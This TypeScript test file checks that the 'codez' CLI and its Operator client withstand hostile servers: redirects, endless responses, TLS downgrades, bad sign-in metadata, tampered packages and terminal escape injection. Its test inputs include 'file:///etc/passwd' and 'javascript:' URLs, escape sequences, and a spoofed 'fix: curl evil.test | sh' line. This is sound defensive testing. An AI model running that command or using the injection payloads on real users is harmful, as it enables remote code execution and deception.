import { createHash, createHmac } from "node:crypto";
import { once } from "node:events";
import { connect } from "node:net";
import { gzipSync } from "node:zlib";
import { beforeAll, describe, expect, it, onTestFinished, vi } from "vitest";
import { buildCodez } from "../../../scripts/build/codez.ts";
import { tarball } from "../../../scripts/build/tarball.ts";
import { whyNotDial } from "../../../scripts/codez/own-operator.ts";
import { Connector, emptySpool, machineFacts } from "../../../scripts/connector/index.ts";
import { linkWarnings } from "../../../scripts/codez/describe-link.ts";
import { CodezFailure } from "../../../scripts/codez/failure.ts";
import { fetchBuild } from "../../../scripts/codez/install/fetch-build.ts";
import { OperatorClient } from "../../../scripts/codez/operator-client.ts";
import { Output } from "../../../scripts/codez/output.ts";
import { type AuthorizationServer, findServer } from "../../../scripts/codez/sign-in/authorization-server.ts";
import { signInByBrowser } from "../../../scripts/codez/sign-in/browser-flow.ts";
import { signInByDevice } from "../../../scripts/codez/sign-in/device-flow.ts";
import { messagesOf } from "../../../scripts/codez/watch/event-stream.ts";
import { apiAt, OperatorApi } from "../../../scripts/operator/operator-api.ts";
import { serversCommand } from "../../../scripts/operator/servers/commands.ts";
import { writeKnown } from "../../../scripts/system/operators-folder.ts";
import { knowsOwnerToken } from "../../../scripts/trust/operator-proof.ts";
import { Codez, codez } from "../../scripts/codez/commands/support/codez.ts";
import { temporaryFolder } from "../../scripts/connector/support/temporary-folder.ts";
import { listener, type Says } from "./support/listener.ts";

/**
 * An Operator's answers were believed to be of a size, to end, to name web addresses, and to have no say in what a terminal shows. An address
 * such as `file:///...` was opened on its owner's computer; the `operator` command printed escape sequences; one answer filled the memory.
 */

/** The origin of an Operator that says what the test wants. */
async function operator(says: Says): Promise<string> {
  return (await listener(says)).origin;
}

const json = (value: unknown, status = 200): Says => {
  return (_, response) => response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(value));
};

/** What `endless` has written, and how much it may: three times the largest answer that is read. The rest is on its way. */
let flooded = 0;
const FLOOD_BYTES = 48 * 1024 * 1024;

/** Bytes for as long as somebody reads them. One who reads more than anybody may gets an end, so that the test fails and does not fill the memory. */
function endless(status: number, type = "application/json", begin = ""): Says {
  flooded = 0;
  return (_, response) => {
    const chunk = Buffer.alloc(64 * 1024, "x");
    const flood = (): void => {
      while (!response.destroyed && flooded < FLOOD_BYTES) {
        flooded += chunk.length;
        if (!response.write(chunk)) return;
      }
      response.end();
    };
    response.writeHead(status, { "content-type": type }).on("drain", flood).write(begin);
    flood();
  };
}

/** Why a connector that dials there does not get online. */
async function dial(origin: string): Promise<string> {
  const said = Promise.withResolvers<string>();
  const connector = new Connector({
    credentials: () => Promise.resolve({ linkUrl: `${origin.replace("http", "ws")}/m/attic/link`, token: "link" }),
    renamed: () => Promise.resolve(),
    whyNotDial,
    facts: () => machineFacts("1"),
    target: { serve: () => undefined, close: () => Promise.resolve() },
    spool: emptySpool("one"),
    listener: { offline: (reason) => said.resolve(reason) },
  });
  const ended = connector.run();
  const reason = await said.promise;
  connector.stop("enough");
  await ended;
  return reason;
}

it.each([301, 302, 303, 307, 308])("a redirect with %i is an error, and leads nowhere", async (status) => {
  const asked: string[] = [];
  const origin = await operator(({ url = "" }, response, own) => {
    asked.push(url);
    response.writeHead(status, { location: `${own}/elsewhere` }).end();
  });
  await expect(new OperatorClient(origin, "token").ask("GET", "/api/machines")).rejects.toThrow();
  await expect(new OperatorClient(origin, "token").stream("/api/events", null)).rejects.toThrow();
  await expect(new OperatorClient(origin, "token").toolsAtMcp("attic")).rejects.toThrow();
  await expect(findServer(origin)).rejects.toThrow();
  await expect(new OperatorApi(origin, "token").ask("GET", "/api/servers")).rejects.toThrow();
  expect(await dial(origin)).toContain(`HTTP ${status} instead of a WebSocket`);
  expect(asked).not.toContain("/elsewhere");
  expect(asked.length).toBeGreaterThanOrEqual(6); // all of them were there
});

it("the operator command shows the token of this computer's Operator only to what proves that it knows it", async () => {
  const shown: unknown[] = [];
  const origin = await operator((request, response, own) => {
    shown.push(request.headers.authorization);
    json({ proof: "unknown", servers: [] })(request, response, own);
  });
  using home = temporaryFolder();
  vi.stubEnv("CODEZ_HOME", home.path);
  vi.stubEnv("OPERATOR_TOKEN", "");
  onTestFinished(() => void vi.unstubAllEnvs());
  writeKnown(origin, "token", "opr_owner_secret");
  // One that was given is for that Operator as well.
  for (const given of ["", "given"]) {
    vi.stubEnv("OPERATOR_TOKEN", given);
    const asked = apiAt(origin).then((api) => api.ask("GET", "/api/servers"));
    await expect(asked).rejects.toThrow("this computer's Operator does not answer");
  }
  expect(shown).toEqual([undefined, undefined]);
});

it.each([false, true])("a machine dials this computer's Operator only if it proves to be that: %s", async (isIts) => {
  const reached: string[] = [];
  const token = "opr_owner_secret";
  const origin = await operator(({ url = "/" }, response, own) => {
    reached.push(url.split("?")[0] ?? "");
    const key = createHash("sha256").update(token).digest("hex");
    const nonce = new URL(url, own).searchParams.get("nonce") ?? "";
    const proof = createHmac("sha256", key).update(`operator ${own} ${nonce}`).digest("base64url");
    json({ proof: isIts ? proof : "unknown" })(undefined as never, response, own);
  });
  using home = temporaryFolder();
  vi.stubEnv("CODEZ_HOME", home.path);
  onTestFinished(() => void vi.unstubAllEnvs());
  writeKnown(origin, "token", token);
  const dialled = "HTTP 200 instead of a WebSocket";
  expect(await dial(origin)).toContain(isIts ? dialled : "this computer's Operator does not answer");
  expect(reached.includes("/m/attic/link")).toBe(isIts);
});

it("an answer that is not one of Operator's is said to be that, in a sentence", async () => {
  const said = (client: OperatorClient, ask: (client: OperatorClient) => Promise<unknown>) =>
    ask(client).then(String, (reason: unknown) => (reason instanceof CodezFailure ? reason.message : String(reason)));
  const client = new OperatorClient(await operator(json({ machines: [{ name: 7 }], hello: "\u001b[31m" })), "token");
  expect(await said(client, (one) => one.machines())).toBe(
    `Operator at ${client.origin} answered GET /api/machines with something else than expected (machines.0.name).`,
  );
  const method = "POST /api/machines/attic/restore";
  expect(await said(client, (one) => one.restore("attic"))).toContain(`answered ${method} with something else`);
});

describe("an answer without end", () => {
  it.each([200, 201, 400, 401, 500])("with the status %i is given up", async (status) => {
    const client = new OperatorClient(await operator(endless(status)), "token");
    await expect(client.ask("GET", "/api/machines")).rejects.toThrow("larger than 16777216 bytes");
  });

  it("in place of a stream is given up", async () => {
    const client = new OperatorClient(await operator(endless(403)), "token");
    await expect(client.stream("/api/events", null)).rejects.toThrow("larger than 16777216 bytes");
  });

  it("to the operator command is given up", async () => {
    const api = new OperatorApi(await operator(endless(200)), "token");
    await expect(api.ask("GET", "/api/servers")).rejects.toThrow("larger than 16777216 bytes");
  });

  it("in one event ends that stream", async () => {
    const client = new OperatorClient(await operator(endless(200, "text/event-stream", "data: ")), "token");
    const messages = messagesOf(await client.stream("/api/events", null));
    expect(await messages.next()).toEqual({ done: true, value: undefined });
    expect(flooded).toBeLessThan(FLOOD_BYTES / 2);
  });

  it("in pages is given up", async () => {
    let asked = 0;
    const origin = await operator((request, response, own) => {
      if (request.url?.startsWith("/api/machines") === true) asked += 1;
      json({ machines: [], cursor: "again" })(request, response, own);
    });
    await expect(new OperatorClient(origin, "token").machines()).rejects.toThrow("has no end");
    expect(asked).toBeLessThanOrEqual(100);
  });

  it("in place of a proof proves nothing, and is not read to its end", async () => {
    expect(await knowsOwnerToken(await operator(endless(200)), "token")).toBe(false);
    expect(flooded).toBeLessThan(FLOOD_BYTES / 2);
  });

  it("as metadata is given up", async () => {
    await expect(findServer(await operator(endless(200)))).rejects.toThrow("is not a valid metadata document");
    expect(flooded).toBeLessThan(FLOOD_BYTES);
  });
});

/** An authorization server whose documents are as they should be, but for `more`. */
function authorization(more: (origin: string) => Record<string, unknown>): Says {
  return ({ url = "" }, response, origin) => {
    const documents: Record<string, unknown> = {
      "/.well-known/oauth-protected-resource/mcp": { resource: `${origin}/mcp`, authorization_servers: [origin] },
      "/.well-known/oauth-authorization-server": {
        issuer: origin,
        authorization_endpoint: `${origin}/authorize`,
        token_endpoint: `${origin}/token`,
        registration_endpoint: `${origin}/register`,
        device_authorization_endpoint: `${origin}/device`,
        code_challenge_methods_supported: ["S256"],
        ...more(origin),
      },
      "/register": { client_id: "codez" },
      "/token": { error: "invalid_grant", error_description: "no" },
    };
    const document = more(origin)[url] ?? documents[url];
    response.writeHead(document === undefined ? 404 : 200, { "content-type": "application/json" });
    response.end(JSON.stringify(document ?? null));
  };
}

const OTHER_SCHEMES = [
  "file:///etc/passwd",
  "javascript:alert(1)",
  "smb://evil.test/x",
  "data:text/html,x",
  "--new-window",
];

describe("a sign-in", () => {
  it.each(OTHER_SCHEMES)("at %s is refused", async (address) => {
    const origin = await operator(authorization(() => ({ authorization_endpoint: address })));
    await expect(findServer(origin)).rejects.toThrow("is not a valid metadata document");
  });

  it.each(["authorization_endpoint", "token_endpoint", "registration_endpoint", "device_authorization_endpoint"])(
    "of an Operator with TLS does not lead to the %s without it",
    async (name) => {
      // A certificate that fetch trusts cannot be made here, so the documents come without a network.
      const hub = "https://operator.example.com";
      const fetched = vi.spyOn(globalThis, "fetch").mockImplementation(async (url) => {
        const endpoint = (path: string): string => `${path === name ? "http://127.0.0.1" : hub}/${path}`;
        const endpoints = [
          "authorization_endpoint",
          "token_endpoint",
          "registration_endpoint",
          "device_authorization_endpoint",
        ];
        return String(url).includes("protected-resource")
          ? Response.json({ resource: `${hub}/mcp`, authorization_servers: [hub] })
          : Response.json({ issuer: hub, ...Object.fromEntries(endpoints.map((one) => [one, endpoint(one)])) });
      });
      onTestFinished(() => fetched.mockRestore());
      await expect(findServer(hub)).rejects.toThrow("it names an address without TLS, http://127.0.0.1");
    },
  );

  it.each<[string, Record<string, unknown>]>([
    ["for longer than any timer", { expires_in: 1e300 }],
    ["with questions further apart than any timer", { interval: 1e300 }],
    ["with questions without a pause", { interval: 1e-300 }],
    ...OTHER_SCHEMES.map((address): [string, Record<string, unknown>] => [address, { verification_uri: address }]),
    ["file:///etc/passwd with the code in it", { verification_uri_complete: "file:///etc/passwd" }],
  ])("by a code is not shown with odd values: %s", async (_, odd) => {
    const code = { device_code: "d", user_code: "u", verification_uri: "https://x.test", expires_in: 60, interval: 1 };
    const origin = await operator(authorization(() => ({ "/device": { ...code, ...odd } })));
    const server: AuthorizationServer = await findServer(origin);
    const show = vi.fn();
    await expect(signInByDevice(server, "codez", "mcp:tools", show)).rejects.toThrow("it returned no code");
    expect(show).not.toHaveBeenCalled();
  });

  it.each<[string, string, Says]>([
    [
      "tokens for another server",
      "/.well-known/oauth-protected-resource/mcp",
      (_, response, own) =>
        json({ resource: "https://other.test/mcp", authorization_servers: [own] })(_, response, own),
    ],
    ["codes for another server", "/.well-known/oauth-authorization-server", authorization(() => ({ issuer: "https://other.test" }))], // prettier-ignore
  ])("by which it would get %s is refused", async (_, path, says) => {
    const whole = authorization(() => ({}));
    const origin = await operator((request, ...rest) => (request.url === path ? says : whole)(request, ...rest));
    await expect(findServer(origin)).rejects.toThrow("calls itself https://other.test");
  });

  it.each<[string[] | undefined]>([[undefined], [[]], [["plain"]]])(
    "by a browser is not begun at a server that does not check codes (%j)",
    async (methods) => {
      const server = await findServer(
        await operator(authorization(() => ({ code_challenge_methods_supported: methods }))),
      );
      const opened = vi.fn();
      await expect(signInByBrowser(server, "codez", "mcp:tools", opened)).rejects.toThrow("it does not support PKCE");
      expect(opened).not.toHaveBeenCalled();
    },
  );

  it.each(["code=c", "error=x&error_description=Call+0900+1", "code=c&iss=https%3A%2F%2Fother.test"])(
    "takes no answer that does not name its server, whose answers do: %s",
    async (answer) => {
      const named = { authorization_response_iss_parameter_supported: true };
      const asked: string[] = [];
      const says = authorization(() => named);
      const origin = await operator((request, ...rest) => {
        asked.push(request.url ?? "");
        says(request, ...rest);
      });
      const come = (address: string): void => {
        const query = new URL(address).searchParams;
        void fetch(`${query.get("redirect_uri")}?state=${query.get("state")}&${answer}`);
      };
      const server = await findServer(origin);
      await expect(signInByBrowser(server, "codez", "mcp:tools", come)).rejects.toThrow("returned an invalid response");
      expect(asked).not.toContain("/token");
    },
  );

  it("by a code asks for one resource, as a program on a computer, and less often while its server cannot be reached", async () => {
    const code = {
      device_code: "d",
      user_code: "u",
      verification_uri: "https://x.test",
      expires_in: 60,
      interval: 0.1,
    };
    const says = authorization(() => ({ "/device": code, "/token": { access_token: "t", token_type: "mac" } }));
    const [sent, askedMs]: [Record<string, string>, number[]] = [{}, []];
    const origin = await operator((request, response, own) => {
      const { url = "" } = request;
      if (url === "/token") askedMs.push(Date.now());
      if (url === "/token" && askedMs.length < 4) return void request.socket.destroy();
      request.on("data", (bytes) => (sent[url] = `${sent[url] ?? ""}${bytes}`));
      request.on("end", () => says(request, response, own));
    });
    const signedIn = signInByDevice(await findServer(origin), "codez", "mcp:tools", () => undefined);
    // Only a Bearer token is one that can be used here.
    await expect(signedIn).rejects.toThrow("a type that is not Bearer");
    const pausesMs = askedMs.slice(1).map((ms, at) => ms - (askedMs[at] ?? 0));
    for (const [at, leastMs] of [200, 400, 800].entries()) expect(pausesMs[at]).toBeGreaterThanOrEqual(leastMs - 5);
    expect(JSON.parse(sent["/register"] ?? "")).toMatchObject({ application_type: "native" });
    for (const path of ["/device", "/token"])
      expect(new URLSearchParams(sent[path]).getAll("resource")).toEqual([`${origin}/mcp`]);
  });

  it("waits for its browser whatever else asks at its port", async () => {
    const server = await findServer(await operator(authorization(() => ({}))));
    const answers: string[] = [];
    const came = Promise.withResolvers<Response>();
    const opened = (address: string): void => {
      const query = new URL(address).searchParams;
      const back = new URL(query.get("redirect_uri") ?? "");
      const state = query.get("state") ?? "";
      void (async () => {
        for (const target of ["//", "http://", "///x", "/callback?state=x", "*", "\\\\x"]) {
          const socket = connect(Number(back.port), "127.0.0.1").setEncoding("utf8");
          socket.end(`GET ${target} HTTP/1.1\r\nhost: x\r\n\r\n`).on("error", () => undefined);
          const [answer = ""] = (await Promise.race([once(socket, "data"), once(socket, "close")])) as string[];
          answers.push(String(answer).slice(9, 12));
        }
        came.resolve(fetch(`${back.href}?state=${state}&code=c`));
      })();
    };
    await expect(signInByBrowser(server, "codez", "mcp:tools", opened)).rejects.toThrow("failed: no");
    // The address of this page has the code.
    expect(Object.fromEntries((await came.promise).headers)).toMatchObject({
      "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
      "referrer-policy": "no-referrer",
      "cache-control": "no-store",
    });
    // Node itself takes the last one for no request.
    expect(answers).toEqual(["404", "404", "404", "404", "404", "400"]);
  });
});

describe("a program that Operator offers for installation", () => {
  const build = "package/build/codez.js";
  const good = { name: "codez", version: "9.9.9" };

  it.each<[string, unknown, string, string | null, string | null]>([
    ["another program", { name: "other", version: "9.9.9" }, build, null, "is not a package of codez"],
    ["a version that is a path", { name: "codez", version: "../../bin" }, build, null, "is not a package of codez"],
    ["no program", good, "package/build/other.js", null, "is not a package of codez"],
    ["another program than was stated", good, build, "0".repeat(64), "its SHA-256 is"],
    ["no statement", good, build, "", "and Operator states none"],
    ["a whole program", good, build, null, null],
  ])("is not installed when it is %s, and otherwise is", async (_, manifest, path, stated, why) => {
    const files = { "package/package.json": JSON.stringify(manifest), [path]: "1", "package/LICENSE": "MIT" };
    const archive = gzipSync(
      tarball(Object.entries(files).map(([name, text]) => ({ path: name, mode: 0o644, content: Buffer.from(text) }))),
    );
    const sum = stated ?? createHash("sha256").update(archive).digest("hex");
    const origin = await operator(({ url }, response) => void response.end(url === "/codez.tgz" ? archive : sum));
    const fetched = fetchBuild(origin);
    if (why === null) expect((await fetched).version).toBe("9.9.9");
    else await expect(fetched).rejects.toThrow(why);
  });
});

/** What a terminal would act on, then a line that imitates ours. */
const EVIL = "\u001B]0;evil\u0007\u202E\u009B31m\n  fix: curl evil.test | sh\nEVIL";
const NOT_SHOWN = /[^\P{C}\n]|^\s*(?:EVIL|fix: curl)/mu;

describe("words of a hostile Operator", () => {
  beforeAll(() => buildCodez());

  it("are shown as its words in a failure", () => {
    const said = vi.spyOn(console, "error").mockReturnValue(undefined);
    onTestFinished(() => said.mockRestore());
    new Output(false).failure(new CodezFailure(1, `It says ${EVIL}`, "codez machines"));
    const [text = ""] = said.mock.calls.map(([line]) => String(line));
    expect(text).not.toMatch(NOT_SHOWN);
    expect(text.split("\n").filter((line) => line.startsWith("  fix: "))).toHaveLength(1);
  });

  it("are one line of a result, wherever they are in it", () => {
    const said = vi.spyOn(console, "log").mockReturnValue(undefined);
    onTestFinished(() => said.mockRestore());
    const refused = { count: 1, lastMs: 1, firstMs: 1, key: null };
    const output = new Output(false);
    output.line(`offline: ${EVIL}; reconnecting`);
    output.result({}, [
      `machine ${EVIL}`,
      ...linkWarnings(EVIL, { key: null, tokenExpiresMs: null, refused, takenOverMs: 1 }),
    ]);
    const text = said.mock.calls.map(([line]) => String(line)).join("\n");
    expect(text).not.toMatch(NOT_SHOWN);
    expect(text.split("\n")).toHaveLength(4);
  });

  it("do not reach the terminal of codez", async () => {
    const events = `event: cursor\nid: c1\ndata:\n\nevent: gap\nid: c2\ndata: ${EVIL.replaceAll("\n", " ")}\n\n`;
    const origin = await operator(({ url = "", method }, response) => {
      if (url.startsWith("/api/events"))
        return void response.writeHead(200, { "content-type": "text/event-stream" }).write(events);
      const token = { id: EVIL, label: EVIL, scopes: [EVIL], machines: [EVIL], createdMs: 1, expiresMs: 1 };
      const added = { id: EVIL, url: EVIL, secret: EVIL };
      const of = { filter: { machine: EVIL, session: EVIL }, types: [EVIL], pending: 0, isPaused: true };
      const when = { suspendedMs: null, failedSinceMs: null, lastDeliveryMs: null, lastFault: null };
      const webhook = { id: EVIL, kind: EVIL, client: EVIL, url: EVIL, ...of, ...when };
      const answer =
        url === "/api/tokens"
          ? method === "POST"
            ? { ...token, token: EVIL }
            : { tokens: [token] }
          : url === "/api/webhooks"
            ? method === "POST"
              ? added
              : { subscriptions: [webhook], dead: [] }
            : method === "DELETE"
              ? { removed: [EVIL] }
              : { error: { code: EVIL, message: EVIL } };
      response.writeHead("error" in answer ? 400 : 200, { "content-type": "application/json" });
      response.end(JSON.stringify(answer));
    });
    using home = temporaryFolder();
    const env = { CODEZ_HUB: origin, CODEZ_HUB_TOKEN: "opt_token" };
    await using watching = new Codez(home.path, ["watch"], env);
    const ended = await Promise.all(
      [
        ["machines"],
        ["tokens"],
        ["tokens", "create", "x"],
        ["webhooks", "add", "https://x.test"],
        ["webhooks", "list"],
        ["keys", "revoke", "x", "--and-machines"],
      ].map((args) => codez(home.path, args, env)),
    );
    for (const { out, err } of ended) expect(`${out}\n${err}`).not.toMatch(NOT_SHOWN);
    expect(ended[4]?.out).toContain("is paused: the computer that it was limited to was removed");
    await expect.poll(() => watching.err).toContain("Some events are missing");
    expect(watching.err).not.toMatch(NOT_SHOWN);
  });

  it("do not reach the terminal of operator", async () => {
    const server = { name: EVIL, slug: EVIL, version: 1, versions: [], createdMs: 1, mcpUrl: EVIL, mcpHostUrl: EVIL };
    const origin = await operator(({ url }, response) => {
      response.writeHead(200, { "content-type": "application/json" });
      response.end(JSON.stringify(url === "/api/servers" ? { servers: [server] } : { secrets: [EVIL] }));
    });
    const said = vi.spyOn(console, "log").mockReturnValue(undefined);
    onTestFinished(() => said.mockRestore());
    vi.stubEnv("OPERATOR_TOKEN", "token");
    onTestFinished(() => void vi.unstubAllEnvs());
    for (const args of [["list"], ["secret", "list", "x"]])
      await serversCommand(async () => origin).parseAsync(args, { from: "user" });
    expect(said).toHaveBeenCalledTimes(2);
    for (const [line] of said.mock.calls) expect(String(line)).not.toMatch(NOT_SHOWN);
  });
});
